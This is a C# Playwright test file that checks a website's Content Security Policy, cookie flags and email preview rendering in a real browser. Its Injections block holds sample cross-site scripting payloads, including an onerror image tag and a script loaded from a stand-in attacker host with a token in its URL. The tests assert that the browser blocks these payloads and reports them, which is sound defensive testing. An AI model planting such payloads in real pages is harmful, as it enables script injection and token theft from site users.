using Microsoft.Playwright;

namespace MissingPackage.Browser.Tests;

/// <summary>What a real browser makes of our headers and cookies.</summary>
public sealed class SecurityTests(Site site, HttpsSite https, Chromium chromium) : IClassFixture<Site>, IClassFixture<HttpsSite>, IClassFixture<Chromium>
{
    // What somebody who could write into a page would try.
    private const string Injections = """
        () => {
          window.ran = [];
          const script = document.createElement("script");
          try { script.textContent = "window.ran.push('inline script')"; document.body.append(script); } catch (refused) { }
          const button = document.createElement("button");
          try { button.setAttribute("onclick", "window.ran.push('handler')"); document.body.append(button); button.click(); } catch (refused) { }
          try { document.body.insertAdjacentHTML("beforeend", "<img src=x onerror=\"window.ran.push('markup')\">"); } catch (refused) { }
          const far = document.createElement("script");
          try { far.src = "https://evil.example/a.js?token=secret"; document.body.append(far); } catch (refused) { }
          return window.ran;
        }
        """;

    [Fact]
    public async Task Injected_scripts_do_not_run_and_are_reported()
    {
        await using var context = await chromium.OpenAsync(site);
        var page = await context.NewPageAsync();
        await page.GotoAsync("/return");
        Assert.Empty(await page.EvaluateAsync<string[]>(Injections));
        await ArrivedAsync(site, "application/csp-report");
        Assert.Empty(await page.EvaluateAsync<string[]>("() => window.ran"));
    }

    [Fact]
    public async Task Over_https_they_are_reported_the_newer_way_and_the_cookies_are_kept()
    {
        await using var context = await chromium.OpenAsync(https);
        var page = await context.NewPageAsync();
        await page.GotoAsync("/where-to-look");
        var customer = new Customer(page);
        await page.GotoAsync("/report/order");
        await page.GetByLabel("Order number").FillAsync("SAMPLE-1001");
        await page.GetByLabel("Seller").FillAsync("Sample Seller");
        await customer.ContinueAsync();
        await page.GetByLabel("Item", new() { Exact = true }).WaitForAsync();
        await page.GotoAsync("/admin");
        await page.GetByLabel("Email").FillAsync(Site.AgentEmail);
        await page.GetByLabel("Password").FillAsync(Site.AgentPassword);
        await page.GetByRole(AriaRole.Button, new() { Name = "Sign in", Exact = true }).ClickAsync();
        await page.GetByRole(AriaRole.Heading, new() { Level = 1 }).WaitForAsync();
        var cookies = await context.CookiesAsync();
        Assert.Equal(["__Host-mp-desk", "__Host-mp-device", "__Host-mp-draft", "__Host-mp-form"], cookies.Select(cookie => cookie.Name).Order(StringComparer.Ordinal).ToArray());
        Assert.All(cookies, cookie => Assert.True(cookie is { Secure: true, HttpOnly: true, Path: "/" }, cookie.Name));

        Assert.Empty(await page.EvaluateAsync<string[]>(Injections));
        await ArrivedAsync(https, "application/reports+json");
    }

    [Fact]
    public async Task An_email_preview_shows_its_own_style_and_nothing_else()
    {
        await using var context = await chromium.OpenAsync(site, phone: false);
        var page = await context.NewPageAsync();
        var complaints = new List<string>();
        page.Console += (_, message) => complaints.Add(message.Text);
        await page.GotoAsync("/admin");
        await page.GetByLabel("Email").FillAsync(Site.AgentEmail);
        await page.GetByLabel("Password").FillAsync(Site.AgentPassword);
        await page.GetByRole(AriaRole.Button, new() { Name = "Sign in", Exact = true }).ClickAsync();
        await page.GotoAsync("/admin/messages");
        var previews = await page.Locator("a[href$='/html']").EvaluateAllAsync<string[]>("links => links.map(link => link.getAttribute('href'))");
        Assert.True(previews.Length > 10, $"Only {previews.Length} previews.");
        foreach (var preview in previews)
        {
            await page.GotoAsync(preview);
            await Assertions.Expect(page.Locator(".card")).ToHaveCSSAsync("border-radius", "14px");
        }

        await page.KeepAsync("email-preview");
        Assert.DoesNotContain(complaints, line => line.Contains("Content Security Policy", StringComparison.Ordinal));
    }

    private static async Task ArrivedAsync(Site site, string mediaType)
    {
        using var patience = new CancellationTokenSource(TimeSpan.FromSeconds(90));
        while (!site.CspReports.Contains((mediaType, 204)))
        {
            Assert.False(patience.IsCancellationRequested, $"No {mediaType} came, but {string.Join(", ", site.CspReports)}.");
            await Task.Delay(100, TestContext.Current.CancellationToken);
        }
    }
}
